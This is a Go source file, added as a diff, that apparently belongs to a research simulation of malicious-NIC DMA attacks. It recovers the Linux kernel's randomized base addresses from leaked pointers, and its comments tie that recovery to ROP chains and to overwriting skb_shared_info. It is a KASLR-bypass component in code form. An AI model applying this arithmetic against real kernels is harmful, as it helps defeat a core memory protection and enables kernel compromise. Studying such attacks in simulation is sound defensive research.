@@ -1,0 +1,216 @@
+package layout
+
+import (
+	"errors"
+	"fmt"
+)
+
+// Inferencer implements the attacker-side KASLR-subversion arithmetic of
+// §2.4. It consumes 64-bit words leaked from DMA-readable pages (sub-page
+// vulnerability type (d) leaks, frags[] arrays of TX packets, and so on) and
+// recovers the randomized bases:
+//
+//   - the text base, by matching the KASLR-invariant low 21 bits of a known
+//     symbol (the paper uses init_net, reachable from every socket);
+//   - the vmemmap base, from any leaked struct page pointer, exploiting the
+//     1 GiB (30-bit) alignment of vmemmap_base;
+//   - the direct-map base (page_offset_base), from any (KVA, PFN) pair, or
+//     from a direct-map pointer combined with a recovered vmemmap base.
+//
+// The Inferencer never consults the real Layout — it only sees leaked words —
+// so tests can assert that recovery equals ground truth.
+type Inferencer struct {
+	symbols *SymbolTable
+
+	textBase       Addr
+	vmemmapBase    Addr
+	pageOffsetBase Addr
+	haveText       bool
+	haveVmemmap    bool
+	havePageOffset bool
+}
+
+// NewInferencer builds an attacker that knows the victim's kernel build
+// (symbol offsets) but none of the randomized bases.
+func NewInferencer(symbols *SymbolTable) *Inferencer {
+	return &Inferencer{symbols: symbols}
+}
+
+// ErrNotFound is returned when the leaked words do not pin down a base.
+var ErrNotFound = errors.New("layout: inference failed: no matching leaked pointer")
+
+// ObserveWords feeds leaked 64-bit words to the inferencer, classifying each
+// and updating whichever bases can be pinned down. It returns the number of
+// words that contributed.
+func (in *Inferencer) ObserveWords(words []uint64) int {
+	used := 0
+	for _, w := range words {
+		if in.observe(Addr(w)) {
+			used++
+		}
+	}
+	return used
+}
+
+func (in *Inferencer) observe(a Addr) bool {
+	switch Classify(a) {
+	case RegionText:
+		return in.observeText(a)
+	case RegionVmemmap:
+		return in.observeStructPage(a)
+	case RegionDirectMap:
+		return in.observeDirectMap(a)
+	default:
+		return false
+	}
+}
+
+// observeDirectMap recovers page_offset_base from a leaked direct-map
+// pointer using the paper's §2.4 argument: the base is 1 GiB aligned (PUD
+// granularity), so the low 30 bits of the pointer are the physical offset
+// unchanged by KASLR. On machines with at most 1 GiB of backed physical
+// memory (all our simulated victims) that identifies the base exactly:
+// base = pointer with the low 30 bits cleared.
+func (in *Inferencer) observeDirectMap(a Addr) bool {
+	if in.havePageOffset {
+		return false
+	}
+	base := a &^ Addr(DirectMapAlign-1)
+	if base < DirectMapStart || base > DirectMapEnd {
+		return false
+	}
+	in.pageOffsetBase = base
+	in.havePageOffset = true
+	return true
+}
+
+// observeText attempts to interpret a text-region pointer as init_net. The
+// low 21 bits of init_net's runtime address equal its link-time offset mod
+// 2 MiB regardless of KASLR; if they match, the text base follows.
+func (in *Inferencer) observeText(a Addr) bool {
+	if in.haveText {
+		return false
+	}
+	low, err := in.symbols.Low21("init_net")
+	if err != nil {
+		return false
+	}
+	if uint64(a)&(TextAlign-1) != low {
+		return false
+	}
+	off, _ := in.symbols.Offset("init_net")
+	base := a - Addr(off)
+	if base < TextStart || base&(TextAlign-1) != 0 {
+		return false
+	}
+	in.textBase = base
+	in.haveText = true
+	return true
+}
+
+// observeStructPage recovers vmemmap_base from a struct page pointer. Because
+// vmemmap_base is 1 GiB aligned, the low 30 bits of the pointer equal
+// (pfn * 64) mod 2^30; for systems below 64 GiB of RAM (pfn < 2^24) the
+// product fits in 30 bits, so pfn is recovered exactly and the base follows.
+func (in *Inferencer) observeStructPage(a Addr) bool {
+	if in.haveVmemmap {
+		return false
+	}
+	low30 := uint64(a) & (DirectMapAlign - 1)
+	if low30%StructPageSize != 0 {
+		return false
+	}
+	base := a - Addr(low30)
+	if base < VmemmapStart || base > VmemmapEnd {
+		return false
+	}
+	in.vmemmapBase = base
+	in.haveVmemmap = true
+	return true
+}
+
+// ObserveKVAPFNPair recovers page_offset_base from a leaked direct-map KVA
+// whose backing PFN the attacker knows (e.g. the KVA found next to a struct
+// page pointer in a frags[] entry, step 3 of Poisoned TX §5.4):
+// page_offset_base = kva - pfn*4096.
+func (in *Inferencer) ObserveKVAPFNPair(kva Addr, pfn PFN) error {
+	if Classify(kva) != RegionDirectMap {
+		return fmt.Errorf("layout: %#x is not a direct-map pointer", uint64(kva))
+	}
+	base := kva - Addr(uint64(pfn)*PageSize)
+	if base&(DirectMapAlign-1) != 0 {
+		return fmt.Errorf("layout: inferred page_offset_base %#x violates 1 GiB alignment", uint64(base))
+	}
+	in.pageOffsetBase = base
+	in.havePageOffset = true
+	return nil
+}
+
+// PFNFromStructPage translates a leaked struct page pointer to a PFN using
+// the recovered vmemmap base.
+func (in *Inferencer) PFNFromStructPage(a Addr) (PFN, error) {
+	if !in.haveVmemmap {
+		return 0, ErrNotFound
+	}
+	if a < in.vmemmapBase {
+		return 0, fmt.Errorf("layout: %#x below inferred vmemmap base", uint64(a))
+	}
+	off := uint64(a - in.vmemmapBase)
+	if off%StructPageSize != 0 {
+		return 0, fmt.Errorf("layout: %#x not struct-page aligned", uint64(a))
+	}
+	return PFN(off / StructPageSize), nil
+}
+
+// KVAFromPFN translates a PFN to a direct-map KVA using the recovered
+// page_offset_base. This is the final translation a malicious NIC performs
+// before overwriting skb_shared_info with the address of its payload.
+func (in *Inferencer) KVAFromPFN(p PFN) (Addr, error) {
+	if !in.havePageOffset {
+		return 0, ErrNotFound
+	}
+	return in.pageOffsetBase + Addr(uint64(p)*PageSize), nil
+}
+
+// SymbolKVA returns the runtime address of a symbol under the recovered text
+// base, used to point ROP chain entries at gadgets.
+func (in *Inferencer) SymbolKVA(name string) (Addr, error) {
+	if !in.haveText {
+		return 0, ErrNotFound
+	}
+	off, err := in.symbols.Offset(name)
+	if err != nil {
+		return 0, err
+	}
+	return in.textBase + Addr(off), nil
+}
+
+// TextBase returns the recovered text base.
+func (in *Inferencer) TextBase() (Addr, error) {
+	if !in.haveText {
+		return 0, ErrNotFound
+	}
+	return in.textBase, nil
+}
+
+// VmemmapBase returns the recovered vmemmap base.
+func (in *Inferencer) VmemmapBase() (Addr, error) {
+	if !in.haveVmemmap {
+		return 0, ErrNotFound
+	}
+	return in.vmemmapBase, nil
+}
+
+// PageOffsetBase returns the recovered direct-map base.
+func (in *Inferencer) PageOffsetBase() (Addr, error) {
+	if !in.havePageOffset {
+		return 0, ErrNotFound
+	}
+	return in.pageOffsetBase, nil
+}
+
+// Complete reports whether all three bases needed for a compound attack have
+// been recovered.
+func (in *Inferencer) Complete() bool {
+	return in.haveText && in.haveVmemmap && in.havePageOffset
+}
